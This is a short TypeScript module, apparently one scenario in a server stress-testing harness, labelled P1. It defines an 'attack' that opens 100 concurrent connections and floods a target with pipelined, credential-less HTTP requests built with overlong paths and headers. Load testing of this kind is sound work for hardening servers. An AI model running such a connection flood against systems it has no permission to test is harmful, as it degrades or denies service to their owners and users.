/** P1: lines of strangers, as long as they can be. */
import type { Attack } from '../attack.js'
import { crowd, flood, open } from '../floods.js'

const agent = `User-Agent: ${'"'.repeat(128)}`
const request = `GET /${'a'.repeat(255)} HTTP/1.1\r\nHost: x\r\n${agent}\r\n\r\n`

export const attack: Attack = {
  title: '100 connections ask without a credential, pipelined, with the longest lines',
  run: (target, signal) => crowd(100, signal, () => flood(open(target), request.repeat(20))),
}
